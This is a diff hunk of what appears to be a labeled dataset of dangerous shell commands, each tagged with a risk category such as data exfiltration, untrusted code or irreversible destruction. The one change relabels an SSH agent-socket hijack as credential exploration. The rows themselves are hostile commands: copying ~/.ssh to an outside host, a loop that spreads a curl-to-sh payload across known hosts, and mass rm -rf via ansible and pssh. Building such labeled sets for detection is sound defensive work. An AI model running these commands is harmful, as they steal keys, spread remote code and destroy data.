@@ -6,7 +6,7 @@ data-exfiltration              | scp -r ~/.ssh eve@203.0.113.9:/tmp
 remote-shell-writes            | rsync -a /etc eve@203.0.113.9:/loot
 permission-escalation          | sshpass -p x ssh root@10.0.0.8 'useradd eve'
 untrusted-code                 | ssh-keyscan 10.0.0.8; cat ~/.ssh/known_hosts | awk '{print $1}' | while read h; do ssh $h 'curl http://203.0.113.9/w|sh'; done
-remote-shell-writes            | SSH_AUTH_SOCK=/tmp/ssh-abc/agent.1 ssh root@10.0.0.8
+credential-exploration            | SSH_AUTH_SOCK=/tmp/ssh-abc/agent.1 ssh root@10.0.0.8
 external-api-writes            | smbclient //10.0.0.5/C$ -U admin%pass -c 'put x.exe'
 irreversible-local-destruction | ansible all -m shell -a 'rm -rf /data'
 irreversible-local-destruction | pssh -h hosts 'rm -rf /var/lib'
